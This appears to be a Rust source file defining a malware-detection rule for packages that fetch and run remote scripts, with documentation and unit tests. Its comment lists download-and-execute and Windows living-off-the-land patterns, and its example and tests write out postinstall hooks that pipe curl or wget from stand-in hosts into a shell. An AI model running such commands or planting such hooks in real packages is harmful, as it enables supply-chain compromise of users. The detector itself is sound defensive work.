//! `download-exec`: a remote file or script fetched, then executed.

use crate::declare_rule;
use crate::detect::behavior::{Technique, report_technique};
use crate::rule::{Rule, RuleContext, RuleMeta};
use ferret_core::PackageFacts;

declare_rule! {
    /// ## What it does
    /// Flags code that fetches a remote file or script and executes it: a shell pipe (`curl … | sh`,
    /// `wget -qO- … | bash`, `iwr … | iex`), a download made executable and run (`chmod +x`, a file
    /// written then spawned), a fetched body passed to `eval`/`Function`, or a Windows
    /// living-off-the-land command (`regsvr32 /i:http…`, `mshta http…`, `rundll32 javascript:`,
    /// `certutil -urlcache`, `bitsadmin /transfer`, `powershell -enc`). Command lines are read from
    /// folded `child_process` arguments, install scripts and shipped `.sh`/`.bat`/`.cmd`/`.ps1` files.
    ///
    /// ## Why is this a risk?
    /// A second stage fetched at run time is invisible to any review of the package: the attacker can
    /// change it at will, serve it only to victims, and it runs with the user's privileges. Nearly
    /// every install-time attack that is not a one-shot stealer ends this way.
    ///
    /// ## Example
    /// ```json
    /// { "scripts": { "postinstall": "curl -fsSL http://198.51.100.23/i.sh | sh" } }
    /// ```
    ///
    /// ## False positives
    /// Installers of native tools that download a prebuilt binary from the npm registry or GitHub
    /// releases and run `--version` on it (esbuild, swc) are not flagged: only shell pipes,
    /// executing fetched code, LOLBAS commands, or binaries fetched from raw IPs, paste sites, file
    /// shares or tunnels are. A finding outside install-time or load-time code is only monitored.
    ///
    /// ## References
    /// - GuardDog `threat-process-download-exec`; MITRE ATT&CK T1105, T1218
    DownloadExec, id = "download-exec", category = Malicious, severity = High, action = Warn,
}

impl Rule for DownloadExec {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_package(&self, pkg: &PackageFacts, cx: &mut RuleContext) {
        report_technique(&Self::META, Technique::DownloadExec, pkg, cx);
    }
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;

    #[test]
    fn download_exec() {
        Tester::new(super::DownloadExec)
            .pass_package([("package.json", "{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node-gyp rebuild\"}}")])
            .pass_package([("index.js", "const cp = require('child_process');\ncp.execSync('git rev-parse HEAD');")])
            .fail_package([
                ("package.json", "{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -fsSL http://198.51.100.23/i.sh | sh\"}}"),
                ("index.js", "require('child_process').exec('wget -qO- https://x.example/a | bash');"),
            ])
            .test_and_snapshot();
    }
}
